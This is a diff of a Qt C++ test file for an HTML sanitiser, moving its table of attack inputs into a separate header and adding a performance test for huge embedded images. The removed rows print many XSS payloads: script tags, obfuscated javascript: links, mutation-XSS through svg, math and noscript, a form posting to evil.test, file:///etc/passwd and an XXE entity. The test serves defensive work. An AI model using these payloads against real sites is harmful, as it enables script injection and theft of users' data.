@@ -1,10 +1,9 @@
 // What strangers write never runs, never loads, never hides, and stays readable.
-#include "foundation/html/SafeHtml.h"
+#include "HtmlAttacks.h"
+#include "SafeSubset.h"
 
 #include <QElapsedTimer>
-#include <QRegularExpression>
 #include <QThread>
-#include <QXmlStreamReader>
 #include <QtTest>
 
 #include <random>
@@ -15,70 +14,6 @@ using namespace Qt::Literals::StringLiterals;
 
 namespace
 {
-
-// The first thing in `html` that the subset does not allow, by a parser that is not the one under test.
-QString foreignPart(const QString& html)
-{
-    static const QStringList tags =
-        u"p br hr h1 h2 h3 h4 pre blockquote ul ol li table tr td th b i u s code a"_qs.split(u' ');
-    static const QRegularExpression target(u"\\A(https?://[^\\s/]+|mailto:[^\\s]+@)"_qs);
-    QXmlStreamReader reader(u"<all>"_qs + html + u"</all>"_qs);
-    while (!reader.atEnd()) {
-        const auto token = reader.readNext();
-        if (token == QXmlStreamReader::Comment || token == QXmlStreamReader::ProcessingInstruction ||
-            token == QXmlStreamReader::DTD || token == QXmlStreamReader::EntityReference) {
-            return reader.tokenString();
-        }
-        if (token != QXmlStreamReader::StartElement || reader.name() == u"all"_qs) {
-            continue;
-        }
-        const QString tag = reader.name().toString();
-        if (!tags.contains(tag)) {
-            return tag;
-        }
-        for (const QXmlStreamAttribute& attribute : reader.attributes()) {
-            const QString name = attribute.name().toString();
-            const QString value = attribute.value().toString();
-            const bool span = (tag == u"td"_qs || tag == u"th"_qs) &&
-                              (name == u"colspan"_qs || name == u"rowspan"_qs) && value.toInt() > 0 &&
-                              value.toInt() <= 20;
-            const bool link = tag == u"a"_qs && name == u"href"_qs && target.match(value).hasMatch();
-            if (!span && !link) {
-                return tag + u'@' + name + u'=' + value;
-            }
-        }
-    }
-    return reader.hasError() ? reader.errorString() : QString();
-}
-
-// What must hold of every result; what is wrong, or nothing.
-QString broken(const SafeHtml& safe)
-{
-    if (const QString foreign = foreignPart(safe.html); !foreign.isEmpty()) {
-        return foreign;
-    }
-    qsizetype end = 0;
-    for (const SafeQuote& quote : safe.quotes) {
-        if (quote.start < end || quote.start + quote.length > safe.html.size()) {
-            return u"quotes overlap"_qs;
-        }
-        end = quote.start + quote.length;
-        if (!foreignPart(safe.html.mid(quote.start, quote.length)).isEmpty()) {
-            return u"a quote is not whole"_qs;
-        }
-    }
-    for (const SafeImage& image : safe.images) {
-        if (image.position >= 0 && safe.html.mid(image.position, 1) != u"▣"_qs) {
-            return u"an image is not where it says"_qs;
-        }
-    }
-    static const QRegularExpression unseen(u"[\\x{0}-\\x{8}\\x{b}-\\x{1f}\\x{200b}\\x{200e}\\x{200f}\\x{202a}-\\x{202e}"
-                                           "\\x{2060}-\\x{206f}\\x{feff}\\x{fdd0}-\\x{fdef}\\x{fffc}]"_qs,
-                                           QRegularExpression::UseUnicodePropertiesOption);
-    const QRegularExpressionMatch match = unseen.match(safe.html + safe.text);
-    return match.hasMatch() ? u"unseen character "_qs + QString::number(match.captured().front().unicode(), 16)
-                            : QString();
-}
 
 QString shown(const QString& html)
 {
@@ -149,78 +84,9 @@ private Q_SLOTS:
     {
         QTest::addColumn<QString>("in");
         QTest::addColumn<QString>("words"); // that remain
-        const auto row = [](const char* name, const QString& in, const QString& words = {}) {
-            QTest::newRow(name) << in << words;
-        };
-        row("script", u"a<script>steal()</script>b"_qs, u"ab"_qs);
-        row("script unclosed", u"a<script>steal()"_qs, u"a"_qs);
-        row("script in script", u"<scr<script>ipt>steal()</script>b"_qs, u"ipt>steal()b"_qs);
-        row("script with slash", u"<script/x src=//evil.test/s.js></script>b"_qs, u"b"_qs);
-        row("script doubled angle", u"<<script>steal();//<</script>b"_qs, u"<b"_qs);
-        row("comment ends early", u"<!--><img src=x onerror=steal()>-->b"_qs, u"▣-->b"_qs);
-        row("comment in comment", u"<!-- <!-- --> <b onclick=x>b</b> -->"_qs, u"b -->"_qs);
-        row("conditional comment", u"<!--[if gte IE 4]><script>steal()</script><![endif]-->b"_qs, u"b"_qs);
-        row("cdata", u"<![CDATA[<script>steal()</script>]]>b"_qs, u"steal()]]>b"_qs);
-        row("attribute broken out",
-            u"<a href=\"https://a.test/\"onclick=\"steal()\" title='\"><script>steal()</script>'>b</a>"_qs, u"b"_qs);
-        row("attribute without quotes", u"<p title=`><script>steal()</script>`>b"_qs, u"`>b"_qs);
-        row("handler with slash", u"<b/onmouseover=steal()>b</b>"_qs, u"b"_qs);
-        row("handler with form feed", u"<b\fonclick=steal()>b</b>"_qs, u"b"_qs);
-        row("javascript", u"<a href=javascript:steal()>b</a>"_qs, u"b"_qs);
-        row("javascript mixed case", u"<a href=JaVaScRiPt:steal()>b</a>"_qs, u"b"_qs);
-        row("javascript tab", u"<a href='java\tscript:steal()'>b</a>"_qs, u"b"_qs);
-        row("javascript entity tab", u"<a href='jav&#x09;ascript:steal()'>b</a>"_qs, u"b"_qs);
-        row("javascript newline", u"<a href='jav&#10;ascript:steal()'>b</a>"_qs, u"b"_qs);
-        row("javascript named entities", u"<a href='javascript&colon;steal&lpar;&rpar;'>b</a>"_qs, u"b"_qs);
-        row("javascript decimal", u"<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;x>b</a>"_qs,
-            u"b"_qs);
-        row("javascript leading control", u"<a href=' &#14; javascript:steal()'>b</a>"_qs, u"b"_qs);
-        row("javascript null", u"<a href='java"_qs + QChar(u'\0') + u"script:steal()'>b</a>"_qs, u"b"_qs);
-        row("vbscript", u"<a href=vbscript:msgbox(1)>b</a>"_qs, u"b"_qs);
-        row("data", u"<a href='data:text/html;base64,PHNjcmlwdD4='>b</a>"_qs, u"b"_qs);
-        row("file", u"<a href='file:///etc/passwd'>b</a>"_qs, u"b"_qs);
-        row("own scheme", u"<a href='ms-msdt:/id x'>b</a>"_qs, u"b"_qs);
-        row("share", u"<a href='\\\\evil.test\\share'>b</a>"_qs, u"b"_qs);
-        row("relative", u"<a href='//evil.test/x'>b</a><a href=/x>c</a>"_qs, u"bc"_qs);
-        row("image handler", u"<img src=x onerror=steal()>b"_qs, u"▣b"_qs);
-        row("image script source", u"<img src=javascript:steal() alt=A>b"_qs, u"▣ Ab"_qs);
-        row("image old name", u"<image src=x onerror=steal()>b"_qs, u"▣b"_qs);
-        row("image alternative", u"<img alt='<script>steal()</script>'>"_qs, u"▣ <script>steal()</script>"_qs);
-        row("svg", u"<svg onload=steal()><script>steal()</script><text>t</text></svg>b"_qs, u"b"_qs);
-        row("svg breaks out", u"<svg><p><style><img src=x onerror=steal()></style>b"_qs, u"b"_qs);
-        row("svg animate", u"<svg><a><animate attributeName=href values=javascript:x /><text>c</text></a></svg>b"_qs,
-            u"b"_qs);
-        row("math", u"<math><mtext><table><mglyph><style><img src=x onerror=steal()></style>b</math>"_qs);
-        row("math link", u"<math href=javascript:steal()>c</math>b"_qs, u"b"_qs);
-        row("template", u"<template><script>steal()</script><p onclick=x>c</template>b"_qs, u"b"_qs);
-        row("noscript", u"<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>b"_qs);
-        row("style", u"<style>@import 'https://evil.test/x.css';</style>b"_qs, u"b"_qs);
-        row("style expression", u"<p style='width:expression(steal());background:url(https://evil.test/t)'>b"_qs,
-            u"b"_qs);
-        row("link element", u"<link rel=stylesheet href=https://evil.test/x.css>b"_qs, u"b"_qs);
-        row("base", u"<base href='https://evil.test/'><a href='x'>b</a>"_qs, u"b"_qs);
-        row("form",
-            u"<form action=https://evil.test><input name=p type=password value=v><button formaction=javascript:x>b</button></form>"_qs,
-            u"b"_qs);
-        row("iframe", u"<iframe src=https://evil.test srcdoc='<script>x</script>'>c</iframe>b"_qs, u"b"_qs);
-        row("frameset", u"<frameset><frame src=javascript:steal()></frameset>"_qs);
-        row("object", u"<object data=https://evil.test/x.swf><param name=a value=b>c</object><embed src=x>b"_qs,
-            u"b"_qs);
-        row("meta refresh", u"<meta http-equiv=refresh content='0;url=javascript:steal()'>b"_qs, u"b"_qs);
-        row("media", u"<video poster=javascript:x onerror=x><source onerror=steal()></video><audio src=x>c</audio>b"_qs,
-            u"b"_qs);
-        row("title ends", u"<title><p id='</title><script>steal()</script>'></title>b"_qs);
-        row("text area ends", u"<textarea></textarea><script>steal()</script>b"_qs, u"b"_qs);
-        row("body handler", u"<body onload=steal() background=https://evil.test/t>b"_qs, u"b"_qs);
-        row("nul in tag", u"<scr"_qs + QChar(u'\0') + u"ipt>steal()</script>b"_qs, u"steal()b"_qs);
-        row("tag unclosed", u"b<img src=x onerror=steal() "_qs, u"b"_qs);
-        row("end tag with attribute", u"a</p onclick=steal()>b"_qs);
-        row("processing instruction", u"<?xml version='1.0'?><?php steal() ?>b"_qs, u"b"_qs);
-        row("doctype", u"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>b&e;"_qs);
-        row("marquee", u"<marquee onstart=steal()>b</marquee>"_qs, u"b"_qs);
-        row("details", u"<details open ontoggle=steal()>b</details>"_qs, u"b"_qs);
-        row("is index", u"<isindex action=javascript:steal() type=image>"_qs);
-        row("plaintext", u"<plaintext><script>steal()</script>"_qs, u"<script>steal()</script>"_qs);
+        for (const HtmlAttack& attack : htmlAttacks()) {
+            QTest::newRow(attack.name) << attack.html << attack.words;
+        }
     }
 
     void nothingRuns()
@@ -418,6 +284,21 @@ private Q_SLOTS:
         const SafeHtml flat = safeHtml(u"<blockquote>"_qs.repeated(9) + u"a"_qs, {.depth = 3});
         QCOMPARE(flat.html.count(u"<blockquote>"_qs), 3);
         QVERIFY(!flat.cut);
+    }
+
+    // Pictures written into the document never keep the words behind them from being read.
+    void leavesPicturesOut()
+    {
+        const QString picture = u"QUJD\r\n"_qs.repeated(4'000'000); // 24 million characters
+        const QString html = u"vorn <img alt=Bild src='data:image/png;base64,"_qs + picture + u"'> hinten"_qs;
+        QElapsedTimer watch;
+        watch.start();
+        const SafeHtml safe = safeHtml(html);
+        qInfo("%lld ms", watch.elapsed());
+        QCOMPARE(broken(safe), QString());
+        QCOMPARE(safe.text, u"vorn ▣ Bild hinten\n"_qs);
+        QVERIFY(!safe.cut && safe.images.empty());
+        QVERIFY(watch.elapsed() < 5000);
     }
 
     // Formatting that is opened n times and reconstructed in n paragraphs asks for n² elements.
